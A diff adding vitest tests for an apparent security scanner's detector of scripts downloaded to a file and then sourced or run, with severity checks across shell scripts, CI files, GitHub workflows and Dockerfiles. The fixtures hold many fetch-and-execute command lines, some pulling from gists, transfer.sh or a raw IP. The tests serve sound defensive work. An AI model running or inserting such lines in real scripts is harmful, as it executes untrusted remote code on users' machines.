@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { extractDockerfile } from '../../../src/ecosystems/dockerfile/extract.js';
 import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
-import { suspiciousDownloadRun } from '../../../src/ecosystems/shell/download-run.js';
+import { scriptRunIn, suspiciousDownloadRun } from '../../../src/ecosystems/shell/download-run.js';
 import { scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 
@@ -45,5 +45,66 @@ describe('downloaded-binary-run', () => {
     // A download the base already had, moved within the script, is not new.
     const moved = ['@@ -1,3 +1,3 @@', ' #!/bin/sh', '-curl -sLo /tmp/h https://185.199.1.2/h', '+curl -sLo /tmp/h https://185.199.1.2/h', ' chmod +x /tmp/h && /tmp/h'].join('\n');
     expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: moved })).map((f) => f.id)).not.toContain('downloaded-binary-run');
+  });
+});
+
+describe('downloaded-binary-run: sourced files and gists', () => {
+  it('reads `.` and `source` of the downloaded file, and a quoted name, as running it; a gist as a paste', () => {
+    expect(hit('TMP=$(mktemp)', 'curl -fsSL -o "$TMP" https://gist.githubusercontent.com/someone/abc/raw/setup.sh', '. "$TMP"')).toEqual({ index: 1, source: 'a gist (a paste anyone can create)', plainHttp: false });
+    expect(hit('curl -fsSL https://gist.githubusercontent.com/someone/abc/raw/setup.sh -o /tmp/s.sh && source /tmp/s.sh')?.index).toBe(0);
+    expect(hit('curl -sLo /tmp/x https://transfer.sh/abc/x', '"/tmp/x" --init')?.source).toBe('transfer.sh');
+  });
+  it('leaves a gist only read, and a `.` that is an argument, alone', () => {
+    expect(hit('curl -fsSL -o notes.md https://gist.githubusercontent.com/someone/abc/raw/notes.md', 'cat notes.md')).toBeNull();
+    expect(hit('curl -sLo /tmp/d.json https://transfer.sh/abc/d.json', 'jq . /tmp/d.json')).toBeNull();
+  });
+});
+
+describe('curl-pipe-shell in two steps: a script downloaded to a file, then sourced or run (scriptRunIn)', () => {
+  const url = (...lines: string[]) => scriptRunIn(lines.join('\n'))?.url ?? null;
+  it('finds the file sourced, given to a shell or an interpreter, or a script-named file run as a command', () => {
+    expect(url('TMP=$(mktemp)', 'curl -fsSL -o "$TMP" https://tools.example-dev.io/setup.sh', '. "$TMP"')).toBe('https://tools.example-dev.io/setup.sh');
+    expect(url('curl -fsSL -o "${f}" https://tools.example-dev.io/bootstrap; source "$f"')).toBe('https://tools.example-dev.io/bootstrap');
+    expect(url('curl -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y')).toBe('https://sh.rustup.rs');
+    expect(url('curl -fsSLO https://tools.example-dev.io/v2/install.sh', 'chmod +x install.sh && ./install.sh')).toBe('https://tools.example-dev.io/v2/install.sh');
+    expect(url('wget -q https://bootstrap.example.dev/get-tool.py', 'sudo python3 get-tool.py')).toBe('https://bootstrap.example.dev/get-tool.py');
+    expect(url('curl -fsSL https://tools.example-dev.io/x -o $HOME/x', 'bash -e $HOME/x')).toBe('https://tools.example-dev.io/x');
+  });
+  it('leaves alone: a binary fetched and run, an archive, a file read or copied, a pipe, and a text that checks a checksum', () => {
+    expect(url('curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64', 'chmod +x ./kind', './kind create cluster')).toBeNull();
+    expect(url('curl -fsSLo tools.tar.gz https://github.com/org/tool/releases/download/v1.2/tool.tar.gz && tar xzf tools.tar.gz -C bin')).toBeNull();
+    expect(url('curl -fsSL -o schema.json https://raw.githubusercontent.com/acme/api/main/schema.json', 'jq . schema.json', 'curl -o env.sh https://example.com/env.sh', 'cat env.sh', 'cp env.sh /etc/profile.d/')).toBeNull();
+    expect(url('curl -fsSL https://sh.rustup.rs | sh -s -- -y')).toBeNull();
+    expect(url('curl -LO https://github.com/org/tool/releases/download/v1.2/install.sh', 'echo "$SUM  install.sh" | sha256sum -c', 'sh install.sh')).toBeNull();
+  });
+  it('is reported as curl-pipe-shell with the pipe\'s severities: medium in a script, high in a CI pipeline, medium there from a vendor\'s installer; a gist is downloaded-binary-run\'s', () => {
+    const patch = (...added: string[]) => ['@@ -1,1 +1,' + String(added.length + 1) + ' @@', ' #!/bin/sh', ...added.map((l) => `+${l}`)].join('\n');
+    const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
+    expect(found('scripts/install.sh', patch('f=$(mktemp)', 'curl -fsSL -o "$f" https://tools.example-dev.io/setup.sh', '. "$f"'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
+    expect(found('scripts/install.sh', patch('curl -fsSL -o /tmp/s.sh http://tools.example-dev.io/setup.sh && sh /tmp/s.sh'))).toEqual([['downloaded-binary-run', 'medium', 2]]);
+    expect(found('scripts/install.sh', patch('curl -fsSL -o "$TMP" https://gist.githubusercontent.com/someone/abc/raw/setup.sh', '. "$TMP"'))).toEqual([['downloaded-binary-run', 'high', 2]]);
+    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', '+    - curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', '+    - sh setup.sh'].join('\n'))).toEqual([['curl-pipe-shell', 'high', 3]]);
+    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', "+    - curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs", '+    - sh rustup-init.sh -y'].join('\n'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
+    // The same download and run on the base side: not new.
+    expect(found('scripts/install.sh', ['@@ -1,3 +1,3 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && sh /tmp/s.sh', '+curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && sh /tmp/s.sh -q'].join('\n'))).toEqual([]);
+    // The same source at another version is not new either.
+    expect(found('scripts/install.sh', ['@@ -1,2 +1,2 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2.3/setup.sh && sh /tmp/s.sh', '+curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3.0/setup.sh && sh /tmp/s.sh'].join('\n'))).toEqual([]);
+    expect(found('scripts/kind.sh', patch('curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64', 'chmod +x ./kind', './kind create cluster'))).toEqual([]);
+  });
+  it('is reported in workflows and Dockerfiles as the pipe is there: high, medium from a vendor\'s installer', () => {
+    const workflow = (run: string[]) => ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: |', ...run.map((l) => `          ${l}`), ''].join('\n');
+    const wf = (run: string[]) => extractWorkflow(workflow(run), '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.severity, f.line]);
+    expect(wf(['curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh', '. /tmp/s.sh'])).toEqual([['high', 7]]);
+    expect(wf(['curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh', 'sh uv-install.sh'])).toEqual([['medium', 7]]);
+    expect(wf(['curl -fsSLo /usr/local/bin/kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64', 'chmod +x /usr/local/bin/kind'])).toEqual([]);
+    // Downloaded in one step, run by a later step of the job.
+    const steps = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', '      - run: make', '      - run: bash setup.sh', ''].join('\n');
+    expect(extractWorkflow(steps, '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.severity, f.line])).toEqual([['high', 6]]);
+    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.severity, f.line]);
+    expect(docker('RUN curl -fsSL https://deb.nodesource.com/setup_20.x -o nodesource_setup.sh && bash nodesource_setup.sh')).toEqual([['high', 3]]);
+    expect(docker("RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y")).toEqual([['medium', 3]]);
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN apt-get update\nRUN bash /tmp/setup.sh')).toEqual([['high', 3]]);
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN cat /tmp/setup.sh')).toEqual([]);
+    expect(docker('RUN curl -fsSLo /tmp/t.tgz https://github.com/org/tool/releases/download/v1.2/tool.tgz && tar xzf /tmp/t.tgz -C /usr/local/bin')).toEqual([]);
   });
 });
